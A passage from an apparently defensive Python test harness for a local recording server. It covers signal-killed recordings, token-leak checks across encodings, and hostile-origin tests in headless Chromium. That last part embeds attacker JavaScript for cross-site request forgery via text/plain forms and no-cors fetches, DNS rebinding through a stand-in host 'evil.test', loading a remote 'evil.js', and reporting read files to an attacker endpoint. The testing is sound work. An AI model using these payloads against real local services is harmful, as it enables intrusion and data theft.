        proc.wait(max(0.0, proc.started + after_s * probe.scale - time.monotonic()))
        signalled = time.time()
        proc.signal(sig)
        exited = proc.wait((20 if sig in GRACEFUL else 10) * probe.scale)
        # A killed cloud's web processes find out on their own; then the rest go.
        lingering = []
        deadline = time.monotonic() + 5
        while time.monotonic() < deadline:
            lingering = [p for p in group_members(proc.pid) if p != proc.pid]
            if not lingering:
                break
            time.sleep(0.2)
        run = proc.finish(0)
        for o in outcomes:
            if not exited:
                run.timed_out = True
            rc = judge(o, run, sent=sig, bound=20)
            if sig in GRACEFUL:
                expect_status(o, rc, {0})
            if lingering:
                o.notes.append(f"{len(lingering)} helper process(es) outlived the cloud by 5 s")
        # What the next cloud on the same directory says.
        again = probe.proc(argv, name="cloud-restarted")
        url2 = again.first_line(30 * probe.scale)
        if not url2:
            run2 = again.finish(0)
            for o in outcomes:
                o.problem("a cloud restarted on the data directory did not start: "
                          + run2.err[-200:].decode("utf-8", "replace"))
                judge(o, run2)
            return outcomes
        port2 = int(url2.rstrip("/").rsplit(":", 1)[1])
        for room, o in zip(rooms, outcomes):
            if room not in started:
                o.lost.append("the room never reported recording (reason 1)")
                continue
            recorded = max(0.0, signalled - started[room])
            path = f"/edu/apps/a/v2/rooms/{room}"
            try:
                records = json.loads(api(port2, "GET", path + "/records").body)["data"]["list"]
                events = json.loads(api(port2, "GET", path + "/sequences?nextId=0&cmd=1001")
                                    .body)["data"]["list"]
            except (ValueError, KeyError, TypeError) as e:
                o.problem(f"the restarted cloud's records or events: {e}")
                continue
            if not records:
                o.lost.append("the records list is empty")
                continue
            record = records[-1]
            if record.get("state") != 2:
                o.problem(f"record state {record.get('state')} after the restart, expected 2")
            if not any(e.get("data", {}).get("reason") == 2 for e in events):
                o.lost.append("no reason-2 state event after the stop")
            files = record.get("files") or []
            state = record.get("fileState")
            on_disk = sorted((data_dir / "recordings").glob("*")) \
                if (data_dir / "recordings").is_dir() else []
            if state == "written" and not files:
                o.problem("fileState written, no files")
            for f in files:
                before = len(o.lost)
                # A call without the token gets the file's name in the data directory.
                check_recording(o, data_dir / f["fileName"], recorded, "the listed file")
                if state == "written" and len(o.lost) > before:
                    o.lost[-1] += " (listed as written)"
            if not files:
                mine = [f for f in on_disk if room.replace("-", "") in f.name.replace("-", "")]
                if mine:
                    check_recording(o, mine[0], recorded, "the unlisted file")
                else:
                    o.lost.append(f"no file (fileState {state!r}, {len(on_disk)} file(s) in "
                                  f"recordings/)")
        again.signal(signal.SIGTERM)
        run2 = again.finish(20 * probe.scale)
        for o in outcomes:
            judge(o, run2)
        return outcomes
    return case


def killed_cases(probe):
    cases = []
    signals = [signal.SIGKILL, signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGQUIT]
    for i, sig in enumerate(signals):
        for hls in (False, True):
            after = 6 + (i + 2 * hls) % 5
            name = f"killed-recordings/run --record {'HLS' if hls else 'MP4'}, " \
                   f"{sig.name} after {after} s"
            cases.append(Case("killed-recordings", name,
                              make_run_kill_case(probe, sig, after, hls, name),
                              quick=not hls and sig in (signal.SIGKILL, signal.SIGTERM),
                              slow=True))
    for i, sig in enumerate((signal.SIGKILL, signal.SIGTERM, signal.SIGINT, signal.SIGHUP)):
        after = 7 + i
        names = [f"killed-recordings/cloud, 2 rooms, {sig.name} after {after} s: room {r}"
                 for r in (1, 2)]
        case = Case("killed-recordings", names[0].rsplit(":", 1)[0],
                    cloud_kill_job(probe, sig, after, names),
                    quick=sig == signal.SIGKILL, slow=True)
        case.names = names
        cases.append(case)
    return cases


# ---------------------------------------------------------------------------------------
# 6. secrets


SECRET_TOKENS = [
    'sec"ret"quote-token-0001',
    "sec\\ret\\back-token-0002",
    "sec+ret+plus-token-0003",
    "sec/ret/slash-token-0004",
    "sec ret space-token-0005",
    "s\u00e9cr\u00e8t-\u6f22\u5b57-\U0001F389-token-0006",
    'a"b\\c+d/e f-\u00e9\u6f22\U0001F389-token-0007',
    "AAA+/==tok/en=0008",
]


def inner_base64(prefix, token, suffix, url=False):
    """The base64 letters of prefix+token+suffix that only the token's bytes decide."""
    data = prefix.encode() + token.encode() + suffix.encode()
    encoded = (base64.urlsafe_b64encode if url else base64.b64encode)(data).decode()
    start_bit, end_bit = len(prefix.encode()) * 8, (len(prefix.encode()) + len(token.encode())) * 8
    first = -(-start_bit // 6)
    last = end_bit // 6
    return encoded[first:last]


def secret_forms(token):
    """Each form the page writes (as tests/pages/token-forms.html does) and what to look for."""
    pct = urllib.parse.quote(token, safe="-_.!~*'()")
    js = json.dumps(token, ensure_ascii=False)[1:-1]
    ascii_json = json.dumps(token, ensure_ascii=True)[1:-1].replace("/", "\\/")
    b64 = base64.b64encode(token.encode()).decode()
    return {
        "raw": token,
        "percent": pct,
        "percent-lower": re.sub(r"%[0-9A-F]{2}", lambda m: m.group(0).lower(), pct),
        "form": urllib.parse.quote_plus(token, safe="*-._"),
        "json": js,
        "json-ascii": ascii_json,
        "json-percent": urllib.parse.quote(js, safe="-_.!~*'()"),
        "base64": b64,
        "base64-unpadded": b64.rstrip("="),
        "base64url": base64.urlsafe_b64encode(token.encode()).decode().rstrip("="),
        "base64-inside": inner_base64("user:", token, ":more"),
    }


FORMS_PAGE = """
(async function () {
  const params = new URLSearchParams (location.search);
  const token = params.get ('rtmToken') || '';
  const utf8 = (t) => String.fromCharCode (...new TextEncoder ().encode (t));
  const lowerHex = (t) => t.replace (/%[0-9A-F]{2}/g, (h) => h.toLowerCase ());
  const json = (t) => JSON.stringify (t).slice (1, -1);
  const b64 = (t) => btoa (utf8 (t));
  const forms = {
    raw: token, percent: encodeURIComponent (token),
    'percent-lower': lowerHex (encodeURIComponent (token)),
    form: new URLSearchParams ({ t: token }).toString ().slice (2),
    json: json (token),
    'json-ascii': json (token).replace (/\\//g, '\\\\/').replace (/[\\u0080-\\uffff]/g,
        (c) => '\\\\u' + c.charCodeAt (0).toString (16).padStart (4, '0')),
    'json-percent': encodeURIComponent (json (token)),
    base64: b64 (token), 'base64-unpadded': b64 (token).replace (/=+$/, ''),
    base64url: b64 (token).replace (/\\+/g, '-').replace (/\\//g, '_').replace (/=+$/, ''),
    'base64-inside': b64 ('user:' + token + ':more'),
  };
  for (const [name, value] of Object.entries (forms)) {
    console.log ('form ' + name + ': ' + value);
    console.error ({ form: name, value: value });
    Promise.reject (new Error ('form ' + name + ': ' + value));
    try { fetch ('http://127.0.0.1:9/' + name + '?v=' + value).catch (() => {}); } catch (e) {}
    history.replaceState ({}, '', location.pathname + location.search + '#' + value);
  }
  document.title = forms.raw;
  console.log ('forms-done');
  rhReady ();
}) ();
"""


def count_secrets(forms, run, files):
    """{form: occurrences} in stdout, stderr and @files (JSON files read as their strings)."""
    found = {name: 0 for name in forms}
    texts = [run.err.decode("utf-8", "replace")]
    for blob in [run.out] + [Path(f).read_bytes() if Path(f).exists() else b"" for f in files]:
        text = blob.decode("utf-8", "replace")
        try:
            texts.extend(strings_of(json.loads(text), []))
        except ValueError:
            texts.append(html.unescape(text))
    for name, form in forms.items():
        if len(form) < 4:
            continue
        for text in texts:
            found[name] += text.count(form)
    return found


def make_secret_job(probe, token, index, names, via_env=False):
    def case():
        outcomes = {n: Outcome("secrets", f"secrets/{n}") for n in names}
        forms = secret_forms(token)
        stem = probe.tmpname(f"secret-{index}")
        har, junit = f"{stem}.har", f"{stem}.xml"
        page = probe.pages / "secret-forms.html"
        argv = ["check", page, "--app-id=a", "--room-uuid=r", "--room-type=4", "--json",
                "--timeout=10", "--paint-grace-ms=0", f"--har={har}", f"--junit={junit}"]
        env = None
        if via_env:
            env = {"RECORDHOST_RTM_TOKEN": token}
        else:
            argv.append(f"--rtm-token={token}")
        run = probe.run(argv, 35, env=env, name="secrets")
        found = count_secrets(forms, run, [har, junit])
        for n, o in outcomes.items():
            o.repro = probe.command(run) + f"   # then look for the {n.rsplit(' ', 1)[-1]} form"
            rc = judge(o, run, bound=35)
            expect_status(o, rc, {0, 1})
            report = parse_report(o, run) if rc is not None else None
            if report is not None and "forms-done" not in json.dumps(report):
                o.problem("the page did not write its forms (no forms-done)")
            o.secrets = found[n.rsplit(" ", 1)[-1]]
        return list(outcomes.values())
    return case


def make_reflect_job(probe, token, index, names):
    """A ready-call server that writes the token it got back in every form."""
    def case():
        outcomes = {n: Outcome("secrets", f"secrets/{n}") for n in names}

        def reflect(conn, server, request):
            match = re.search(rb"(?im)^x-agora-token:\s*(.*?)\r$", request)
            got = match.group(1).decode("utf-8", "replace") if match else ""
            forms = secret_forms(got) if got else {"none": "no token in the ready call"}
            msg = "bad token " + " | ".join(f"{k}={v}" for k, v in forms.items())
            answer(conn, 401, json.dumps({"code": 401, "msg": msg}, ensure_ascii=False),
                   reason=b"Unauthorized", extra=("X-Echo: " + forms.get("percent", "") +
                                                  "\r\n").encode())

        server = RawServer(reflect)
        try:
            argv = ["check", probe.page, "--app-id=a", "--room-uuid=r", "--room-type=4",
                    "--json", "--timeout=10", "--paint-grace-ms=0", "--param=sdkReadyMs=50",
                    f"--api-base={server.url}", f"--rtm-token={token}"]
            run = probe.run(argv, 35, name="reflect")
        finally:
            server.close()
        found = count_secrets(secret_forms(token), run, [])
        for n, o in outcomes.items():
            o.repro = probe.rerun(o.name) + "   # a ready-call server echoing the token"
            rc = judge(o, run, bound=35)
            expect_status(o, rc, {1})
            if server.attempts == 0:
                o.problem("no ready call reached the echoing server")
            o.secrets = found[n.rsplit(" ", 1)[-1]]
        return list(outcomes.values())
    return case


def secret_cases(probe):
    text = (f"<!DOCTYPE html>\n<html><head><meta charset=\"utf-8\"></head>"
            f"<body style=\"background:#3a6\"><p>forms</p><script>{READY_JS}</script>"
            f"<script>{FORMS_PAGE}</script></body></html>\n")
    probe.write_page("secret-forms", text)
    cases = []
    form_names = list(secret_forms("x" * 8))
    for i, token in enumerate(SECRET_TOKENS):
        label = f"token {i + 1} {show(token)}"
        names = [f"page writes {label}, form {f}" for f in form_names]
        case = Case("secrets", f"secrets/page writes {label}",
                    make_secret_job(probe, token, i, names), quick=i in (0, 6), slow=True)
        case.names = [f"secrets/{n}" for n in names]
        cases.append(case)
        if i in (0, 5, 6, 7):
            names = [f"server echoes {label}, form {f}" for f in form_names]
            case = Case("secrets", f"secrets/server echoes {label}",
                        make_reflect_job(probe, token, i, names), quick=i == 6, slow=True)
            case.names = [f"secrets/{n}" for n in names]
            cases.append(case)
    token = SECRET_TOKENS[6]
    names = [f"page writes RECORDHOST_RTM_TOKEN {show(token)}, form {f}" for f in form_names]
    case = Case("secrets", f"secrets/page writes RECORDHOST_RTM_TOKEN {show(token)}",
                make_secret_job(probe, token, 99, names, via_env=True), slow=True)
    case.names = [f"secrets/{n}" for n in names]
    cases.append(case)
    return cases


# ---------------------------------------------------------------------------------------
# 7. the local cloud from a hostile web origin


CHROMIUM_HINT = "apt-get install -y --no-install-recommends chromium"
ATTACK_ROOMS = "/edu/apps/hostile/v2/rooms/"
SIMPLE_ROOMS = ["nocors", "nocors-put", "nocors-room", "blob", "blob-room", "beacon-room",
                "form", "form-room"]
ATTACK_COMMON_JS = """
var CLOUD = %(cloud)s, SITE = %(site)s, PAGE = %(page)s, TAG = %(tag)s;
function room (name) { return '/edu/apps/hostile/v2/rooms/' + TAG + '-' + name; }
var START = JSON.stringify ({ mode: 'web', webRecordConfig: {
  rootUrl: PAGE + '?sdkBundle=' + encodeURIComponent (SITE + '/evil.js'),
  videoWidth: 1280, videoHeight: 720 } });
var ROOM = JSON.stringify ({ roomName: 'x', roomType: 4 });
function report (step, data) {
  data.step = step;
  data.tag = TAG;
  return fetch (SITE + '/report', { method: 'POST', mode: 'no-cors',
                                    body: JSON.stringify (data) }).catch (function () {});
}
function within (promise, ms) {
  return Promise.race ([promise, new Promise (function (resolve) {
    setTimeout (function () { resolve ({ error: 'no answer within ' + ms + ' ms' }); }, ms);
  })]);
}
async function attempt (step, url, init) {
  var result = await within ((async function () {
    try {
      var response = await fetch (url, init);
      var text = await response.text ();
      return { type: response.type, status: response.status, body: text.slice (0, 300) };
    } catch (e) {
      return { error: String (e) };
    }
  }) (), 8000);
  await report (step, result);
}
/* A form posting NAME=VALUE as text/plain: with NAME ending in '"x":"' and VALUE '"}',
 * the body is the JSON the attacker wants. */
function form (step, url, enctype, name, value) {
  var frame = document.createElement ('iframe');
  frame.name = 'frame-' + step.replace (/\\W/g, '');
  document.body.appendChild (frame);
  var f = document.createElement ('form');
  f.method = 'POST';
  f.action = url;
  f.enctype = enctype;
  f.target = frame.name;
  var input = document.createElement ('input');
  input.name = name;
  input.value = value;
  f.appendChild (input);
  document.body.appendChild (f);
  f.submit ();
  return report (step, { sent: true });
}
function json_form (text) { return text.slice (0, text.lastIndexOf ('}')) + ',"x":"'; }
"""
ATTACK_MAIN_JS = """
async function main () {
  var frame = document.createElement ('iframe');
  frame.src = %(rebind)s + '/rebind.html';
  document.body.appendChild (frame);
  await attempt ('control', CLOUD + '/edu/apps/hostile/v2/configs', {});
  await attempt ('no-cors text/plain POST start', CLOUD + room ('nocors') + '/records/states/1',
                 { method: 'POST', mode: 'no-cors', headers: { 'Content-Type': 'text/plain' },
                   body: START });
  await attempt ('no-cors PUT start', CLOUD + room ('nocors-put') + '/records/states/1',
                 { method: 'PUT', mode: 'no-cors', body: START });
  await attempt ('no-cors text/plain POST room', CLOUD + room ('nocors-room'),
                 { method: 'POST', mode: 'no-cors', body: ROOM });
  await attempt ('no-cors Blob POST start', CLOUD + room ('blob') + '/records/states/1',
                 { method: 'POST', mode: 'no-cors', body: new Blob ([START]) });
  await attempt ('no-cors Blob POST room', CLOUD + room ('blob-room'),
                 { method: 'POST', mode: 'no-cors', body: new Blob ([ROOM]) });
  await report ('sendBeacon POST room',
                { sent: navigator.sendBeacon (CLOUD + room ('beacon-room'), ROOM) });
  await form ('form text/plain POST start', CLOUD + room ('form') + '/records/states/1',
              'text/plain', json_form (START), '"}');
  await form ('form text/plain POST room', CLOUD + room ('form-room'), 'text/plain',
              json_form (ROOM), '"}');
  await attempt ('preflighted JSON PUT start', CLOUD + room ('json') + '/records/states/1',
                 { method: 'PUT', headers: { 'Content-Type': 'application/json' },
                   body: START });
  await attempt ('cross-origin GET records', CLOUD + room ('json') + '/records', {});
  await new Promise (function (resolve) { setTimeout (resolve, 1500); });
  await report ('done', {});
}
main ();
"""
REBIND_MAIN_JS = """
async function main () {
  await attempt ('rebinding PUT start', room ('rebind') + '/records/states/1',
                 { method: 'PUT', headers: { 'Content-Type': 'application/json' },
                   body: START });
  await attempt ('rebinding GET records', room ('rebind') + '/records', {});
  await report ('rebind-done', {});
}
main ();
"""


def chromium():
    return shutil.which("chromium")


def run_chromium(probe, url, rules, until, bound):
    """Headless Chromium on @url until @until() or @bound seconds: a browser an attacker's
    page runs in, as a user's would."""
    profile = Path(probe.tmpname("chromium") + ".profile")
    profile.mkdir()
    argv = [chromium(), "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run",
            "--disable-background-networking", "--disable-component-update", "--disable-sync",
            "--disable-default-apps", "--mute-audio", f"--user-data-dir={profile}",
            f"--host-resolver-rules={rules}", url]
    proc = Proc(probe, argv, name="chromium")
    deadline = time.monotonic() + bound * probe.scale
    while time.monotonic() < deadline and proc.alive() and not until():
        time.sleep(0.2)
    finished = until()
    run = proc.finish(0)
    shutil.rmtree(profile, ignore_errors=True)
    return run, finished


def script_runs(site, room):
    """The attacker script's beacons and leaks from the page of @room."""
    def mine(hits):
        return [h for h in hits if room in urllib.parse.unquote_plus(h[1])]
    return mine(site.hits_to("/beacon")), mine(site.hits_to("/exfil"))


def judge_script(o, site, room, secret, own=False):
    """@own: the script is the page's own, which may run but not read other files."""
    beacons, leaks = script_runs(site, room)
    ran = [urllib.parse.unquote_plus(h[1]) for h in beacons if "script ran" in
           urllib.parse.unquote_plus(h[1])]
    if ran and not own:
        o.problem(f"the attacker's script ran in the cloud's page ({len(ran)} beacon(s))")
    if leaks:
        o.problem(f"{len(leaks)} file(s) read and sent to the attacker, e.g. "
                  f"{urllib.parse.unquote_plus(leaks[0][1])[:160]!r}")
    o.secrets += len([h for h in site.holding(secret) if room in
                      urllib.parse.unquote_plus(h[1])])


def chain_job(probe, fx, names):
    """One Chromium run of the attacker's page against the cloud: every outcome in
    @names is judged from it."""
    def case():
        outcomes = {n: Outcome("hostile-origin", n) for n in names}
        chain, simple, host_alone, cors_alone = outcomes.values()
        for o in outcomes.values():
            o.repro = probe.rerun(o.name) + "   # against: " + fx.argv_hint()
        if not fx.ensure():
            for o in outcomes.values():
                o.problem(fx.error)
            return list(outcomes.values())
        site = attacker_site(probe)
        _, secret = canary(probe)
        tag = "chain-" + os.urandom(3).hex()
        common = ATTACK_COMMON_JS % {
            "cloud": json.dumps(f"http://127.0.0.1:{fx.port}"), "site": json.dumps(site.url),
            "page": json.dumps(probe.page.as_uri()), "tag": json.dumps(tag)}
        site.add(f"/{tag}.html", "<!DOCTYPE html>\n<title>attacker</title>\n<body><script>"
                 + common + ATTACK_MAIN_JS % {"rebind": json.dumps(f"http://evil.test:{fx.port}")}
                 + "</script></body>\n")
        # The attacker's name, once rebound, leads to the cloud: a relay on 127.0.0.3, at the
        # cloud's port, serves the attacker's page and passes every other request on.
        relay = Site(host="127.0.0.3", port=fx.port, forward=fx.port)
        relay.add("/rebind.html", "<!DOCTYPE html>\n<title>rebound</title>\n<body><script>"
                  + common + REBIND_MAIN_JS + "</script></body>\n")
        try:
            def finished():
                steps = {r.get("step") for r in site.reports() if r.get("tag") == tag}
                return {"done", "rebind-done"} <= steps
            run, done = run_chromium(probe, f"{site.url}/{tag}.html",
                                     "MAP evil.test 127.0.0.3", finished, 60)
        finally:
            relay.close()
        chain.notes.append(f"Chromium ran {run.elapsed:.1f} s")
        if not done:
            chain.problem("the attacker's page did not finish within 60 s (Chromium: "
                          + run.err.decode("utf-8", "replace").strip()[-200:] + ")")
        reports = {r.get("step"): r for r in site.reports() if r.get("tag") == tag}
        control = reports.get("control", {})
        if control.get("type") != "cors" or control.get("status") != 200:
            for o in outcomes.values():
                o.problem(f"the control call (the SDK's configs, CORS kept) failed in Chromium: "
                          f"{control}: the browser, not the cloud, stopped the requests")
        rooms = {name: ATTACK_ROOMS + f"{tag}-{name}"
                 for name in SIMPLE_ROOMS + ["json", "rebind"]}
        found = {name: fx.records(path) for name, path in rooms.items()}
        started = [n for n, r in found.items() if r]
        if started:
            deadline = time.monotonic() + 20 * probe.scale
            while time.monotonic() < deadline and not script_runs(site, tag)[0]:
                time.sleep(0.5)
            time.sleep(2)
        fx.stop_rooms([rooms[n] for n in started])
        for o in (chain, simple):
            names_in = [n for n in started if o is chain or n in SIMPLE_ROOMS]
            if names_in:
                o.problem("a recording started from " + ", ".join(names_in))
        created = [n for n in SIMPLE_ROOMS if found[n] is not None]
        if created:
            simple.problem("a room was created by " + ", ".join(created))
        for step, r in reports.items():
            if step in ("control", "done", "rebind-done") or not isinstance(step, str):
                continue
            if step.startswith("rebinding"):
                if "status" in r and r["status"] not in (421, 403):
                    text = f"{step} reached the API: HTTP {r['status']} {r.get('body', '')[:100]!r}"
                    chain.problem(text)
                    if step == "rebinding GET records":
                        host_alone.problem(text)
            elif r.get("type") == "cors":
                text = (f"the attacker's page read the answer to {step}: HTTP {r['status']} "
                        f"{r.get('body', '')[:100]!r}")
                chain.problem(text)
                if step == "cross-origin GET records":
                    cors_alone.problem(text)
        if "rebinding GET records" not in reports:
            host_alone.problem("the rebinding page never reported")
        if "cross-origin GET records" not in reports:
            cors_alone.problem("the attacker's page never reported")
        judge_script(chain, site, tag, secret)
        chain.notes.append("; ".join(f"{k}: {v.get('status', v.get('error', v.get('sent')))}"
                                     for k, v in reports.items()))
        return list(outcomes.values())
    return case


def script_case(probe, fx, name, url_of, wait_for_page):
    """A start the cloud may accept, of a page whose attacker's script or own script must
    not run, or must not read files: judged on the site's beacons."""
    def case():
        o = Outcome("hostile-origin", name)
        o.repro = probe.rerun(name) + "   # against: " + fx.argv_hint()
        if not fx.ensure():
            o.problem(fx.error)
            return [o]
        site = attacker_site(probe)
        _, secret = canary(probe)
        room = "script-" + os.urandom(3).hex()
        path = f"/edu/apps/a/v2/rooms/{room}"
        resp = api(fx.port, "PUT", path + "/records/states/1", start_body(url_of(site)),
                   fx.headers())
        if resp.status is None or not 200 <= resp.status < 300:
            check_envelope(o, resp, fx)
            o.notes.append(f"start refused: HTTP {resp.status}")
            if not wait_for_page:
                o.problem(f"start of a file page with --allow-file-pages answered "
                          f"{resp.status}: {resp.body[:120]!r}")
            return [o]
        deadline = time.monotonic() + 25 * probe.scale
        ready = False
        try:
            while time.monotonic() < deadline:
                beacons, leaks = script_runs(site, room)
                if leaks or any("script ran" in urllib.parse.unquote_plus(h[1])
                                for h in beacons):
                    break
                if not wait_for_page and len(beacons) >= 2:
                    break
                events = api(fx.port, "GET", path + "/sequences?nextId=0&cmd=1001", None,
                             fx.headers())
                if b'"reason":1' in events.body:
                    ready = True
                    time.sleep(3)
                    break
                time.sleep(0.5)
            time.sleep(1)
        finally:
            fx.stop_rooms([path])
        judge_script(o, site, room, secret, own=not wait_for_page)
        beacons, leaks = script_runs(site, room)
        if wait_for_page and not ready and not o.problems:
            o.problem("in 25 s neither the attacker's script nor the page's SDK ran: "
                      "cannot tell")
        if not wait_for_page and not beacons and not leaks:
            o.problem("the file page's script never reported: cannot tell")
        o.notes.append(f"{len(beacons)} beacon(s), {len(leaks)} leak(s)")
        return [o]
    return case


def layer_start(probe, fx, how):
    def fn(o):
        site = attacker_site(probe)
        page = site.url + "/harmless.html"
        if how == "host":
            resp = refused_start(fx, o, page, want={421, 403}, host=b"evil.test:%d" % fx.port)
        elif how == "origin":
            resp = refused_start(fx, o, page, [("Origin", site.url)], want={403})
        elif how == "null":
            resp = refused_start(fx, o, page, [("Origin", "null")], want={403})
        elif how == "type":
            resp = refused_start(fx, o, page, [("Content-Type", "text/plain;charset=UTF-8")],
                                 want={415})
        else:
            resp = refused_start(fx, o, (probe.pages / "harmless.html").as_uri(), want={400})
        no_cors(o, resp)
    return fn


def hostile_origin_cases(probe):
    if not chromium():
        probe.not_run["hostile-origin"] = f"no chromium: install it with `{CHROMIUM_HINT}`"
        return []
    fx = CloudFixture(probe, "origin")
    files_fx = CloudFixture(probe, "origin-files", file_pages=True)
    cases = []
    names = ["hostile-origin/Chromium on another origin: the whole chain (nothing started, "
             "no attacker script, nothing read, nothing leaked)",
             "hostile-origin/Chromium: simple requests (no-cors text/plain and Blob, "
             "sendBeacon, text/plain forms) start nothing and create no room",
             "hostile-origin/Chromium, Host check alone: a rebinding GET of the records list "
             "(same origin: no Origin, no body)",
             "hostile-origin/Chromium, Origin and CORS alone: a cross-origin GET of the records "
             "list (the cloud's Host, no body)"]
    case = Case("hostile-origin", names[0], chain_job(probe, fx, names), quick=True)
    case.names = names
    case.alone = True
    cases.append(case)
    for how, label in (
            ("host", "Host check alone: a start with Host evil.test, a JSON body, no Origin, "
                     "an http page"),
            ("origin", "Origin check alone: a start with the cloud's Host, a JSON body, "
                       "Origin http://127.0.0.2, an http page"),
            ("null", "Origin check alone: a start as above with Origin: null"),
            ("type", "content type alone: a start with the cloud's Host, no Origin, "
                     "text/plain, an http page"),
            ("file", "file pages alone: a start with everything right but a file: page")):
        name = f"hostile-origin/{label}"

        def layer(name=name, fn=layer_start(probe, fx, how)):
            o = Outcome("hostile-origin", name)
            o.repro = probe.rerun(name) + "   # against: " + fx.argv_hint()
            if not fx.ensure():
                o.problem(fx.error)
            else:
                fn(o)
                check_alive(o, fx)
            return [o]
        cases.append(Case("hostile-origin", name, layer, quick=True))
    bundle = "?sdkBundle="
    for label, fixture, url_of, wait in (
            ("sdkBundle alone: the bundled page over http with sdkBundle=<the attacker's "
             "script>", fx,
             lambda site: f"{site.url}/page/record_page.html{bundle}{site.url}/evil.js", True),
            ("sdkBundle alone: the bundled page as a file (--allow-file-pages) with "
             "sdkBundle=<the attacker's script>", files_fx,
             lambda site: f"{probe.page.as_uri()}{bundle}{site.url}/evil.js", True),
            ("sdkBundle alone: the bundled page as a file (--allow-file-pages) with "
             "sdkBundle=file:// of a planted script", files_fx,
             lambda site: f"{probe.page.as_uri()}{bundle}"
                          f"{(probe.workdir / 'evil-file.js').as_uri()}", True),
            ("file access alone: a file page (--allow-file-pages) reading /etc/hostname and "
             "a planted file", files_fx,
             lambda site: (probe.pages / "file-reader.html").as_uri(), False)):
        name = f"hostile-origin/{label}"
        case = Case("hostile-origin", name, script_case(probe, fixture, name, url_of, wait),
                    quick=True, slow=True)
        cases.append(case)
    for fixture in (fx, files_fx):
        def stop(fixture=fixture):
            if fixture.proc is not None:
                fixture.proc.signal(signal.SIGTERM)
                fixture.proc.finish(20 * probe.scale)
            return []
        case = Case("hostile-origin", f"hostile-origin/{fixture.label}: stopped", stop,
                    quick=True)
        case.last = True
        cases.append(case)
    return cases


# ---------------------------------------------------------------------------------------
# Running


COLUMNS = ["cases", "handled", "crashes", "hangs", "lost", "leaks", "secrets", "wrong"]


def call_case(case):
    try:
        return case.fn()
    except Exception as e:  # the probe's own error, reported as one
        import traceback
        names = getattr(case, "names", None) or [case.name]
        outcomes = []
        for name in names:
            o = Outcome(case.category, name)
            o.problem(f"probe error: {type(e).__name__}: {e}")
            o.notes.append(traceback.format_exc()[-600:])
            o.repro = None
            outcomes.append(o)
        return outcomes


class Runner:
    def __init__(self, probe):
        self.probe = probe
        self.outcomes = []
        self.total = 0
        self.lock = threading.Lock()

    def record(self, outcomes):
        with self.lock:
            for o in outcomes:
                self.outcomes.append(o)
                n = len(self.outcomes)
                extra = f" ({'; '.join(o.notes)})" if o.notes and o.kind == "handled" else ""
                if o.kind == "handled":
                    line = f"[{n}/~{self.total}] ok        {o.name}{extra}"
                    if o.leaks:
                        line += f"  [LeakSanitizer: {o.leaks}]"
                else:
                    line = f"[{n}/~{self.total}] FAIL {o.kind:7} {o.name}: {o.what()}"
                log(line)

    def run(self, cases):
        normal = [c for c in cases if not getattr(c, "alone", False)
                  and not getattr(c, "last", False)]
        alone = [c for c in cases if getattr(c, "alone", False)]
        last = [c for c in cases if getattr(c, "last", False)]
        with concurrent.futures.ThreadPoolExecutor(self.probe.jobs) as pool:
            # The slow ones first, so that the two slots stay busy to the end.
            ordered = [c for c in normal if c.slow] + [c for c in normal if not c.slow]
            for future in concurrent.futures.as_completed(
                    [pool.submit(call_case, c) for c in ordered]):
                self.record(future.result())
        for case in alone + last:
            self.record(call_case(case))

    def table(self, categories):
        rows = []
        for category in categories + ["total"]:
            mine = [o for o in self.outcomes if category in ("total", o.category)]
            if not mine and category != "total":
                continue
            rows.append({
                "category": category,
                "cases": len(mine),
                "handled": sum(o.kind == "handled" for o in mine),
                "crashes": sum(bool(o.crash) for o in mine),
                "hangs": sum(bool(o.hang) for o in mine),
                "lost": sum(bool(o.lost) for o in mine),
                "leaks": sum(o.leaks for o in mine),
                "secrets": sum(o.secrets for o in mine),
                "wrong": sum(o.kind == "wrong" for o in mine),
            })
        return rows


def markdown(rows):
    lines = ["| category | " + " | ".join(COLUMNS) + " |",
             "| --- | " + " | ".join("---:" for _ in COLUMNS) + " |"]
    for row in rows:
        name = f"**{row['category']}**" if row["category"] == "total" else row["category"]
        lines.append(f"| {name} | " + " | ".join(str(row[c]) for c in COLUMNS) + " |")
    return "\n".join(lines)


def build_cases(probe, categories):
    makers = {"options": option_cases, "pages": page_cases, "ready-servers": ready_cases,
              "cloud-api": cloud_api_cases, "killed-recordings": killed_cases,
              "secrets": secret_cases, "hostile-origin": hostile_origin_cases}
    return {c: makers[c](probe) for c in categories}


def selected(cases, args):
    out = []
    for case in cases:
        names = [case.name] + list(getattr(case, "names", []))
        if args.only:
            if not any(text in n for text in args.only for n in names):
                continue
        elif args.quick and not case.quick:
            continue
        out.append(case)
    return out


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0],
                                     formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--binary", default=str(ROOT / "build" / "src" / "recordhost"))
    parser.add_argument("--quick", action="store_true")
    parser.add_argument("--json", nargs="?", const="-", default=None, metavar="FILE")
    parser.add_argument("--only", action="append", default=[])
    parser.add_argument("--category")
    parser.add_argument("--workdir")
    parser.add_argument("--jobs", type=int, default=2)
    args = parser.parse_args()

    named = args.category is not None
    categories = [c.strip() for c in (args.category or ",".join(CATEGORIES)).split(",")
                  if c.strip()]
    unknown = [c for c in categories if c not in CATEGORIES]
    if unknown:
        parser.error(f"unknown category {unknown[0]!r} (expected {', '.join(CATEGORIES)})")
    if not os.access(args.binary, os.X_OK):
        parser.error(f"no executable {args.binary}")
    if not shutil.which("ffprobe") and "killed-recordings" in categories:
        log("warning: no ffprobe: recordings cannot be checked")

    probe = Probe(args)
    runner = Runner(probe)
    start = time.monotonic()
    built = probe.binary.stat().st_mtime
    log(f"probing {probe.binary}{' (ASan build)' if probe.asan else ''}, work in "
        f"{probe.workdir}{', quick' if args.quick else ''}")
    try:
        all_cases = build_cases(probe, categories)
        chosen = {c: selected(cases, args) for c, cases in all_cases.items()}
        runner.total = sum(max(1, len(getattr(x, "names", []) or [1]))
                           for cases in chosen.values() for x in cases)
        for category, why in probe.not_run.items():
            log(f"== {category}: not run: {why}")
        for category in categories:
            if not chosen[category]:
                continue
            log(f"== {category}: {len(chosen[category])} case(s)")
            t0 = time.monotonic()
            runner.run(chosen[category])
            log(f"== {category} done in {time.monotonic() - t0:.0f} s")
    except KeyboardInterrupt:
        log("interrupted")
    finally:
        for proc in probe.procs:
            if proc.alive() or group_members(proc.pid):
                proc.kill_group()
        if probe.site is not None:
            probe.site.close()
    elapsed = time.monotonic() - start
    try:
        changed = probe.rebuilt or probe.binary.stat().st_mtime != built
    except OSError:
